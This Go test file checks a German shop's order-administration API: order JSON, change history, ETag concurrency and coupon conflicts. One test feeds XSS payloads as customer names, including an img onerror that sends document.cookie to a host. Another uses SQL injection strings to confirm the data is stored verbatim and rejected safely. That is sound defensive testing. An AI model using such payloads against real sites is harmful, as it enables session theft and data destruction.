package web_test

import (
	"fmt"
	"maps"
	"strings"
	"testing"
	"time"

	"kontor/internal/shop/coupon"
	"kontor/tests/shoptest"
)

// TestOrderOnTheWire: the specification's names and types, and no list is null.
func TestOrderOnTheWire(t *testing.T) {
	t.Parallel()
	s := shoptest.Start(t)
	admin := s.Operator()
	s.Visitor().PostOrder(shoptest.Order(shoptest.Items(shoptest.Item("garn-rot", 2, 3.5)), shoptest.Set("kunde", shoptest.Body{
		"name": "Max Muster", "email": "max@example.de", "strasse": "Gasse 1",
	}), shoptest.Set("artikel.kategorie", "garn"), shoptest.Set("treuebonusVerwendet", true),
		shoptest.Set("versandkosten", 4.9), shoptest.Set("summe", 11.9))).Want(201)

	const order = `{"id":1,"bestellnummer":"BK-2026-0001",
		"created_at":"2026-11-21T09:15:00.123Z","updated_at":"2026-11-21T09:15:00.123Z","status":"zahlungOffen",
		"kunde_name":"Max Muster","kunde_email":"max@example.de","land":"de","strasse":"Gasse 1","plz":"","ort":"",
		"zahlungsart":"ueberweisung","zwischensumme":7,"versandkosten":4.9,"rabatt_gesamt":0,"summe":11.9,
		"treuebonus_verwendet":1,"abo_rabatt_verwendet":0,"gutschein_code":null,"paypal_order_id":null,"kunde_id":null,
		"sprache":"de","lieferzeit":null,"notiz":"","versand":"offen","version":1,
		"artikel":[{"produkt_slug":"garn-rot","name":"Artikel garn-rot","kategorie_slug":"garn","menge":2,"preis":3.5,"gratis":0,"name_de":"Artikel garn-rot"}],
		"hinweise":[{"art":"artikel","text":"Artikel nicht im Sortiment: garn-rot"},
		{"art":"versand","text":"Versandkosten weichen ab (erwartet 0,00)"},
		{"art":"rabatt","text":"Treuebonus ohne bezahlte frühere Bestellung"}],"angaben":null`
	admin.Get(ordersPath).WantJSON(`{"ok":true,"orders":[` + order + `}],"weiter":null,
		"anzahl":{"alle":1,"bezahlt":0,"zahlungOffen":1,"storniert":0}}`)
	one := admin.Get(ordersPath + "/1")
	one.WantJSON(`{"ok":true,"order":` + order + `,"ereignisse":[{"zeit":"2026-11-21T09:15:00.123Z","wer":"Shop",
		"art":"erstellt","von":null,"nach":null,"text":""}],"mails":[],
		"rechnungen":[],"berechnet":0,"vorschlaege":[],"sendungen":[],"zahlung":null,"doppelt":[]}}`)
	if tag := one.Header.Get("ETag"); tag != `"1"` {
		t.Errorf("ETag %s", tag)
	}
	admin.Get(ordersPath + "?status=storniert").WantJSON(`{"ok":true,"orders":[],"weiter":null,
		"anzahl":{"alle":1,"bezahlt":0,"zahlungOffen":1,"storniert":0}}`)
}

// TestS1_S50_TextsVerbatim: what customers write is data, in JSON as it was sent.
func TestS1_S50_TextsVerbatim(t *testing.T) {
	t.Parallel()
	s := shoptest.Start(t)
	admin := s.Operator()
	for i, text := range []string{
		`<img src=x onerror=fetch('//127.0.0.1:9/'+document.cookie)>`,
		`"><svg onload=alert(1)>`,
		`</script><script>alert(1)</script>`,
		`javascript:alert(1)`,
		"\u202etxt.exe\u200b", "a\u2028\u2029b", "e" + strings.Repeat("\u0301", 400), "Ме\u0441ser 🧶",
	} {
		s.Visitor().PostOrder(shoptest.Order(shoptest.Set("kunde.name", text), shoptest.Set("kunde.email", text+"@b"), shoptest.Set("kunde.strasse", text), shoptest.Set("kunde.plz", text), shoptest.Set("kunde.ort", text),
			shoptest.Set("artikel.slug", text), shoptest.Set("artikel.name", text), shoptest.Set("artikel.kategorie", text), shoptest.Set("zahlungsart", text))).Want(201)
		a := admin.Get(fmt.Sprintf("%s/%d", ordersPath, i+1))
		order := a.JSON()["order"].(shoptest.Body)
		item := order["artikel"].([]any)[0].(map[string]any)
		for _, got := range []any{order["kunde_name"], order["strasse"], order["plz"], order["ort"], order["zahlungsart"],
			item["produkt_slug"], item["name"], item["kategorie_slug"]} {
			if got != text {
				t.Errorf("%q came back as %q", text, got)
			}
		}
		if order["kunde_email"] != text+"@b" {
			t.Errorf("%q came back as %q", text+"@b", order["kunde_email"])
		}
		if kind := a.Header.Get("Content-Type"); kind != "application/json; charset=utf-8" || a.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("type %q may be sniffed", kind)
		}
	}
}

func TestH44_ChangeIsSavedWithItsHistory(t *testing.T) {
	t.Parallel()
	s := shoptest.Start(t)
	admin := s.Operator()
	s.Visitor().PostOrder(shoptest.Order()).Want(201)
	s.Clock.Advance(time.Hour)

	changed := admin.Patch(ordersPath+"/1", `{"status":"bezahlt","notiz":"Geld da","summe":0,"id":9}`).Want(200)
	if tag := changed.Header.Get("ETag"); tag != `"2"` {
		t.Errorf("ETag %s", tag)
	}
	order := readOrder(admin, 1)
	if order.Status != "bezahlt" || order.Notiz != "Geld da" || order.Version != 2 || len(order.Ereignisse) != 3 {
		t.Fatalf("%+v", order)
	}
	for _, e := range order.Ereignisse[1:] {
		mark, ok := strings.CutPrefix(e.Wer, "Verwaltung ")
		if !ok || len(mark) != 8 || e.Zeit != "2026-11-21T10:15:00.123Z" {
			t.Errorf("who and when: %+v", e)
		}
		switch {
		case e.Art == "status" && e.Von != nil && *e.Von == "zahlungOffen" && e.Nach != nil && *e.Nach == "bezahlt":
		case e.Art == "notiz" && e.Text == "Geld da" && e.Von == nil && e.Nach == nil:
		default:
			t.Errorf("what: %+v", e)
		}
	}
	counts := listOrders(admin, "").Anzahl
	if counts["bezahlt"] != 1 || counts["zahlungOffen"] != 0 || counts["alle"] != 1 {
		t.Errorf("counts %v", counts)
	}
	if stored := s.Orders()[0]; stored.Total != 22.2 || stored.ID != 1 {
		t.Errorf("more than status and note changed: %+v", stored)
	}
}

// Setting the current state again succeeds without any other effect: no counter moves,
// and nobody gets a message.
func TestH44_SameStatusIsTold(t *testing.T) {
	t.Parallel()
	s := shoptest.Start(t)
	admin := s.Operator()
	s.Visitor().PostOrder(shoptest.Order()).Want(201)
	admin.Patch(ordersPath+"/1", `{"status":"bezahlt"}`).Want(200)
	paid, counts, bestsellers, mails := readOrder(admin, 1), listOrders(admin, "").Anzahl, s.Visitor().Get("/api/bestseller").Text(), admin.Get("/api/verwaltung/mails").Text()
	for i, body := range []string{`{"status":"bezahlt"}`, `{"status":"bezahlt","notiz":"angerufen"}`, `{"status":"bezahlt","notiz":"angerufen"}`} {
		s.Clock.Advance(time.Minute)
		admin.Patch(ordersPath+"/1", body).Want(200)
		order := readOrder(admin, 1)
		told := 0
		for _, e := range order.Ereignisse {
			if e.Art == "status" && e.Von != nil && *e.Von == "bezahlt" && *e.Nach == "bezahlt" && strings.HasPrefix(e.Wer, "Verwaltung ") {
				told++
			}
		}
		if told != i+1 || order.UpdatedAt <= paid.UpdatedAt || order.Status != "bezahlt" {
			t.Errorf("%s: told %d times, %+v", body, told, order)
		}
	}
	if after := listOrders(admin, "").Anzahl; !maps.Equal(after, counts) {
		t.Errorf("counts %v, before %v", after, counts)
	}
	if s.Visitor().Get("/api/bestseller").Text() != bestsellers || admin.Get("/api/verwaltung/mails").Text() != mails {
		t.Error("best sellers or messages changed")
	}
}

func TestH44_RefusedChangesChangeNothing(t *testing.T) {
	t.Parallel()
	s := shoptest.Start(t)
	admin := s.Operator()
	s.Visitor().PostOrder(shoptest.Order()).Want(201)
	const status, note, nothing = "Ungültiger Status.", "Ungültige Notiz.", "Die Anfrage enthält keine Änderung."
	for body, text := range map[string]string{
		`{"status":"versendet"}`: status, `{"status":"BEZAHLT"}`: status, `{"status":""}`: status,
		`{"status":null}`: status, `{"status":1}`: status, `{"status":true}`: status, `{"status":["bezahlt"]}`: status,
		`{"status":{}}`: status, `{"status":"'); DROP TABLE orders;--"}`: status,
		`{"notiz":null}`: note, `{"notiz":5}`: note, `{"notiz":"` + strings.Repeat("x", 4001) + `"}`: note,
		`{"status":"bezahlt","notiz":[]}`: note,
		`{}`:                              nothing, `{"Status":"bezahlt"}`: "Unbekanntes Feld „Status“.", `{"version":3}`: nothing,
		``: badRequest, `[]`: badRequest, `"bezahlt"`: badRequest, `{"status":"bezahlt"`: badRequest,
	} {
		admin.Patch(ordersPath+"/1", body).WantError(400, text)
	}
	for _, id := range []string{"0", "-1", "abc", "999999", "1.0", "+1", "1e0", "1%20OR%201=1", "9223372036854775808", "18446744073709551617"} {
		admin.Patch(ordersPath+"/"+id, `{"status":"bezahlt"}`).WantError(404, "Bestellung nicht gefunden.")
		admin.Get(ordersPath+"/"+id).WantError(404, "Bestellung nicht gefunden.")
	}
	const stale = "Der Eintrag wurde inzwischen geändert. Bitte neu laden."
	for _, tag := range []string{`"2"`, `W/"1"`, `1`, `"x", "0"`} {
		admin.Patch(ordersPath+"/1", `{"status":"bezahlt"}`, "If-Match: "+tag).WantError(412, stale)
	}
	admin.Patch(ordersPath+"/2", `{"status":"bezahlt"}`, `If-Match: "1"`).WantError(404, "Bestellung nicht gefunden.")
	admin.Patch(ordersPath+"/1", `{"status":"bezahlt"}`, "Content-Type: text/plain").WantError(415, "Die Anfrage muss den Content-Type application/json haben.")
	admin.Patch(ordersPath+"/1", `{"status":"bezahlt","x":"`+strings.Repeat("x", 256<<10)+`"}`).WantError(413, "Die Anfrage ist zu groß.")

	order := readOrder(admin, 1)
	if order.Status != "zahlungOffen" || order.Version != 1 || len(order.Ereignisse) != 1 {
		t.Errorf("a refused change left traces: %+v", order)
	}
}

func TestH44_IfMatchThatFits(t *testing.T) {
	t.Parallel()
	s := shoptest.Start(t)
	admin := s.Operator()
	s.Visitor().PostOrder(shoptest.Order()).Want(201)
	for i, tag := range []string{`"1"`, `"7", "2"`, `*`} {
		got := admin.Patch(ordersPath+"/1", `{"status":"bezahlt"}`, "If-Match: "+tag).Want(200)
		if want := fmt.Sprintf(`"%d"`, i+2); got.Header.Get("ETag") != want {
			t.Errorf("%s: ETag %s, want %s", tag, got.Header.Get("ETag"), want)
		}
	}
}

// TestH44_ParallelChanges: of several changes that demand the same version exactly one
// is carried out.
func TestH44_ParallelChanges(t *testing.T) {
	t.Parallel()
	s := shoptest.Start(t)
	admin := s.Operator()
	s.Visitor().PostOrder(shoptest.Order()).Want(201)
	carried := 0
	for _, a := range shoptest.Together(20, func(int) shoptest.Answer {
		return admin.Patch(ordersPath+"/1", `{"status":"bezahlt"}`, `If-Match: "1"`)
	}) {
		switch a.Status {
		case 200:
			carried++
		default:
			a.WantError(412, "Der Eintrag wurde inzwischen geändert. Bitte neu laden.")
		}
	}
	if order := readOrder(admin, 1); carried != 1 || order.Version != 2 || len(order.Ereignisse) != 2 {
		t.Errorf("%d carried out, order %+v", carried, order)
	}
}

// TestContract_CouponOfACancelledOrder: an order whose coupon somebody has used since
// cannot be reinstated, and the answer names the other order.
func TestContract_CouponOfACancelledOrder(t *testing.T) {
	t.Parallel()
	s := shoptest.Start(t)
	admin := s.Operator()
	admin.Post(couponsPath, `{"code":"einmal","art":"betrag","wert":1,"einmalig_pro_person":true}`).Want(201)
	s.Visitor().PostOrder(shoptest.Order(shoptest.Set("gutscheinCode", "EINMAL"))).Want(201)
	admin.Patch(ordersPath+"/1", `{"status":"storniert"}`).Want(200)
	s.Visitor().PostOrder(shoptest.Order(shoptest.Set("gutscheinCode", "EINMAL"))).Want(201)

	back := admin.Patch(ordersPath+"/1", `{"status":"bezahlt"}`).Want(409)
	if !strings.Contains(back.Text(), "BK-2026-0002") || back.Header.Get("X-Fehlercode") != coupon.ErrTaken.Code {
		t.Errorf("answer %s", back.Text())
	}
	if order := readOrder(admin, 1); order.Status != "storniert" || len(order.Ereignisse) != 2 {
		t.Errorf("%+v", order)
	}
}

// TestContract_CouponUsedUpMeanwhile: nor can one whose coupon has reached its limit.
func TestContract_CouponUsedUpMeanwhile(t *testing.T) {
	t.Parallel()
	s := shoptest.Start(t)
	admin := s.Operator()
	admin.Post(couponsPath, `{"code":"zwei","art":"betrag","wert":1,"max_einloesungen":2}`).Want(201)
	s.Visitor().PostOrder(shoptest.Order(shoptest.Set("gutscheinCode", "ZWEI"))).Want(201)
	s.Visitor().PostOrder(shoptest.Order(shoptest.Set("gutscheinCode", "ZWEI"))).Want(201)
	admin.Patch(ordersPath+"/1", `{"status":"storniert"}`).Want(200)
	s.Visitor().PostOrder(shoptest.Order(shoptest.Set("gutscheinCode", "ZWEI"))).Want(201)

	back := admin.Patch(ordersPath+"/1", `{"status":"zahlungOffen"}`).WantError(409, "Der Gutschein ist aufgebraucht, zuletzt mit Bestellung BK-2026-0003.")
	if code := back.Header.Get("X-Fehlercode"); code != coupon.ErrTaken.Code {
		t.Errorf("code %s", code)
	}
	if order := readOrder(admin, 1); order.Status != "storniert" || len(order.Ereignisse) != 2 {
		t.Errorf("%+v", order)
	}
	admin.Patch(ordersPath+"/3", `{"status":"storniert"}`).Want(200)
	admin.Patch(ordersPath+"/1", `{"status":"zahlungOffen"}`).Want(200)
}
